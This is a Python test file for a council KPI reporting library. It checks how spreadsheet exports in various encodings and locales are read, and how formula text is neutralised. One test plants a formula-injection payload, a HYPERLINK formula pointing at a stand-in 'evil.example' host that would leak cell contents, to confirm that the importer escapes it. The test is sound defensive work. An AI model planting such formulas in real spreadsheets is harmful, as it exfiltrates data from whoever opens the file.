"""Files as Excel really writes them: Windows-1252, UTF-16 'Unicode Text', European locales,
formulas without saved values, and text that a spreadsheet would run as a formula."""

import csv
import hashlib
import re
import zipfile
from decimal import Decimal as D

import pytest

from kpilib import load_council
from kpilib._driver.build import plan
from kpilib._driver.importer import import_pack
from kpilib._inputs.actuals import load_actuals
from kpilib._inputs.council import PROJECT_ROOT
from kpilib._inputs.csvfile import neutralise, table_text
from kpilib._inputs.errors import InputError
from kpilib._inputs.months import Month
from kpilib._inputs.pack import read_pack

PACK = PROJECT_ROOT / "params" / "lincolnshire" / "pack-2017-08.csv"
HEADER = "kpi_id,month,value,numerator,denominator,status,note"
# Three rows of Norfolk's February 2019 (params/norfolk/actuals.csv), with a note as staff type one.
ROWS = ["320,2019-02,27760,,,,", "610,2019-02,21.6,1073,4084,,Cost £5 per café visit"]


def loaded(params_copy, data: bytes):
    (params_copy / "norfolk" / "actuals.csv").write_bytes(data)
    actuals = load_actuals(load_council(params_copy, "norfolk"))
    return {(k, str(m)): o for (k, m), o in actuals.items()}


def test_a_windows_1252_csv_is_read_with_a_warning(params_copy, capsys):
    by = loaded(params_copy, "\r\n".join([HEADER, *ROWS]).encode("cp1252"))
    assert by[("610", "2019-02")].note == "Cost £5 per café visit"
    assert by[("320", "2019-02")].value.value == 27760
    load_actuals(load_council(params_copy, "norfolk"))  # a build reads it again: one warning is enough
    err = capsys.readouterr().err
    assert err.count("warning: ") == 1
    assert "norfolk/actuals.csv: not UTF-8 (line 3 is not), so read as Windows-1252" in err


def test_a_unicode_text_file_is_read_as_utf16_with_tabs(params_copy, capsys):
    text = "\r\n".join(line.replace(",", "\t") for line in [HEADER, *ROWS])
    by = loaded(params_copy, text.encode("utf-16"))  # Python writes the BOM, as Excel does
    assert by[("610", "2019-02")].value.value == D("21.6")
    assert by[("610", "2019-02")].denominator.value == 4084
    assert by[("610", "2019-02")].note == "Cost £5 per café visit"
    big_endian = "\ufeff" + text
    by = loaded(params_copy, big_endian.encode("utf-16-be"))
    assert by[("320", "2019-02")].value.value == 27760
    assert capsys.readouterr().err == ""  # no guess was made


def test_a_european_csv_reads_semicolons_and_decimal_commas_with_a_warning(params_copy, capsys):
    text = (
        "kpi_id;month;value;numerator;denominator;status;note\n320;2019-02;27.760;;;;\n610;2019-02;21,6;1.073;4.084;;\n"
    )
    by = loaded(params_copy, text.encode("utf-8"))
    assert by[("320", "2019-02")].value.value == 27760
    assert by[("610", "2019-02")].value.value == D("21.6")
    assert (by[("610", "2019-02")].numerator.value, by[("610", "2019-02")].denominator.value) == (1073, 4084)
    assert (
        "norfolk/actuals.csv: read as a European-locale CSV: cells separated by ';' and ',' as the decimal point"
        in capsys.readouterr().err
    )


def test_bytes_no_encoding_can_read_are_named_by_line(params_copy):
    data = f"{HEADER}\n{ROWS[0]}\n610,2019-02,21.6,,,,bad \x81 byte\n".encode("latin-1")  # 0x81: unused in 1252
    with pytest.raises(
        InputError,
        match=r"norfolk/actuals.csv:3: cannot be read as CP1252 text: save it from the "
        r"spreadsheet as CSV UTF-8",
    ):
        loaded(params_copy, data)


def test_an_actuals_file_with_only_a_header_is_named(params_copy, capsys, monkeypatch):
    monkeypatch.chdir(params_copy.parent)
    (params_copy / "norfolk" / "actuals.csv").write_text(HEADER + "\n")
    build, others = plan(Month.parse("2019-02"), None, params_copy)
    assert (build, [(o.council, o.status, o.reason) for o in others]) == (
        [],
        [("norfolk", "skipped", "norfolk has no data for 2019-02 (no data at all)")],
    )
    assert capsys.readouterr().err == (
        "warning: params/norfolk/actuals.csv: has a header but no rows, so the council has no figures at all\n"
    )


def formula_pack(tmp_path, cell):
    from openpyxl import Workbook

    book = Workbook()
    sheet = book.active
    sheet.title = "Aug pack"
    with open(PACK, encoding="utf-8", newline="") as handle:
        for row in csv.reader(handle):
            sheet.append(row)
    sheet[cell] = "=AVERAGE(E2:I2)"  # openpyxl saves the formula but no result, as any program does
    book.save(tmp_path / "pack.xlsx")
    return tmp_path / "pack.xlsx"


def test_a_formula_without_a_saved_value_is_refused_naming_the_cell(tmp_path):
    with pytest.raises(InputError) as caught:
        read_pack(formula_pack(tmp_path, "J2"))
    assert str(caught.value).endswith(
        "pack.xlsx:2: Aug pack!J2: PM_KPI_01: a formula whose result was not saved in "
        "the file: open the file in Excel and save it, or paste the cells as values"
    )


def test_a_formula_with_its_value_saved_is_read_as_the_value(tmp_path):
    path = formula_pack(tmp_path, "J2")
    from openpyxl import load_workbook

    # Give the formula the cached result Excel would have saved, and read it.
    with zipfile.ZipFile(path) as archive:
        parts = {info.filename: archive.read(info) for info in archive.infolist()}
    sheet = parts["xl/worksheets/sheet1.xml"]
    saved = b"<f>AVERAGE(E2:I2)</f><v>99.97</v>"
    parts["xl/worksheets/sheet1.xml"] = re.sub(rb"<f>AVERAGE\(E2:I2\)</f>(<v>\s*</v>|<v\s*/>)?", saved, sheet)
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
    assert load_workbook(path, data_only=True).active["J2"].value == 99.97
    row = read_pack(path).rows[0]
    assert row.cells[Month.parse("2017-08")].figure.value == D("99.97")


def digest(folder):
    return {p.name: hashlib.sha256(p.read_bytes()).hexdigest() for p in folder.glob("*.csv")}


def test_a_formula_in_a_description_is_written_as_text_and_said(lincs_copy, tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    with open(PACK, encoding="utf-8", newline="") as handle:
        rows = list(csv.reader(handle))
    rows[1][1] = '=HYPERLINK("http://evil.example/?"&A1,"% paid on time")'
    with open(tmp_path / "pack.csv", "w", encoding="utf-8", newline="") as handle:
        csv.writer(handle).writerows(rows)
    report = import_pack(lincs_copy, "lincolnshire", tmp_path / "pack.csv")
    kpis = (lincs_copy / "lincolnshire" / "kpis.csv").read_text(encoding="utf-8")
    assert 'PM_KPI_01,PM,"\'=HYPERLINK(""http://evil.example/?""&A1,""% paid on time"")"' in kpis
    assert [line for line in report.lines if "PM_KPI_01" in line] == [
        "pack.csv:2: PM_KPI_01: description changed (was '% of Payroll Recipients paid on the Paym'…)",
        "pack.csv:2: PM_KPI_01: the description starts like a spreadsheet formula, so kpis.csv holds it "
        "with a leading ' and spreadsheets show it as text",
        "pack.csv:2: PM_KPI_01: unchanged",  # its figures
    ]
    before = digest(lincs_copy / "lincolnshire")
    again = import_pack(lincs_copy, "lincolnshire", tmp_path / "pack.csv")  # the same pack again: no change
    assert digest(lincs_copy / "lincolnshire") == before
    assert again.lines[-2:] == [
        "no file changed",
        "48 KPI rows read: 0 months added, 0 changed, 245 unchanged; 0 catalogue changes",
    ]


def test_only_text_cells_are_neutralised():
    text = table_text(
        ("a", "b", "c", "d", "e", "f"),
        [["=1+1", "-5", "+2.5", "@SUM(A1)", "-x", "\tTab"], ["-1,234", "12%", "plain", "", "a=b", 7]],
    )
    assert text == "a,b,c,d,e,f\n'=1+1,-5,+2.5,'@SUM(A1),'-x,'\tTab\n\"-1,234\",12%,plain,,a=b,7\n"
    assert neutralise("\rCR") == "'\rCR"


def test_the_scores_export_neutralises_formula_text(lincs_copy):
    from kpilib._inputs.escalations import load_escalations
    from kpilib._papers.scores import contract_scores_csv
    from kpilib._scoring.contract_scorecard import build_contract_scorecard

    folder = lincs_copy / "lincolnshire"
    for name in ("kpis.csv", "levels.csv", "actuals.csv"):  # a KPI reference typed as a formula
        path = folder / name
        path.write_text(path.read_text(encoding="utf-8").replace("\nF_KPI_01,", "\n=F_KPI_01,"), encoding="utf-8")
    council = load_council(lincs_copy, "lincolnshire")
    escalations = load_escalations(folder / "escalations.csv", council.indicators)
    text = contract_scores_csv(
        build_contract_scorecard(council, load_actuals(council), escalations, Month.parse("2017-08"))
    )
    rows = list(csv.reader(text.splitlines()))
    assert [r[1] for r in rows if r[0] == "'=F_KPI_01"] == [
        "2017-03",
        "2017-04",
        "2017-05",
        "2017-06",
        "2017-07",
        "2017-08",
    ]
    assert not any(r[0].startswith("=") for r in rows)


@pytest.mark.e2e
def test_make_report_prints_each_input_warning_once(params_copy, tmp_path, capsys):
    """The driver reads actuals.csv before the kernel does and then relays the kernel's
    warnings: a guess about the file is still said once."""
    from kpilib._driver.cli import main

    from ..conftest import norfolk_report_args

    rows = (PROJECT_ROOT / "params" / "norfolk" / "actuals.csv").read_text(encoding="utf-8")
    (params_copy / "norfolk" / "actuals.csv").write_bytes(rows.replace(",", ";").encode("cp1252"))
    assert main(norfolk_report_args(tmp_path / "out", params_copy)) == 0
    err = capsys.readouterr().err
    assert err.count("read as a European-locale CSV") == 1


def test_a_leading_zero_is_never_read_as_a_thousands_group(params_copy):
    """'0.125' in a European file is a decimal point, and '0,125' in a UK file is no number:
    neither is silently read as 125."""
    from kpilib._inputs.numbers import parse_figure

    european = "kpi_id;month;value;numerator;denominator;status;note\n610;2019-02;0.216;;;;\n"
    assert loaded(params_copy, european.encode("utf-8"))[("610", "2019-02")].value.value == D("0.216")
    assert parse_figure("1,073").value == 1073
    with pytest.raises(ValueError, match="'0,125' is not a number"):
        parse_figure("0,125")


def test_a_link_to_a_device_is_refused_not_read_until_memory_runs_out(tmp_path):
    """A file's size is checked before it is read; /dev/zero has size 0 and never ends."""
    from kpilib._inputs.pack import read_pack

    pack = tmp_path / "zero.csv"
    pack.symlink_to("/dev/zero")
    with pytest.raises(InputError, match="zero.csv: is not a regular file"):
        read_pack(pack)
